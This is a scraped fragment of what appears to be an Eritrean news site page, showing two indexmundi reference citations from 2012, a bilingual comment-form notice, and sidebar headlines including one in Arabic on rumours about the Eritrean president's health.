 [3]http://www.indexmundi.com/g/r.aspx?t=0&v=85&l=en Accessed on 13 April 2012

 [4] http://www.indexmundi.com/g/r.aspx?t=0&v=118&l=en Accessed on 13 April 2012







Add comment

Your comments are as important as the article you are commenting on. Please enrich the discussion by avoiding personal attacks. We'll publish your comment, if it meets our criteria. تعليقاتك لا تقل اهمية عن المقال المكتوب اعلاه، فالرجاء اثراء النقاش بالابتعاد عن الاساءات الشخصية. سوف ننشر تعليقك اذا استوف شروط النشر



Security code
Refresh

Enough dictatorship

Get Adobe Flash playerArkokabay Media ----->Poem

Get Adobe Flash player

مرض الرئيس الأريتري بين الشائعة والنفي

Get Adobe Flash player

ALIAGABRES- SHE COTTON SUMMER DRESSES

Get Adobe Flash player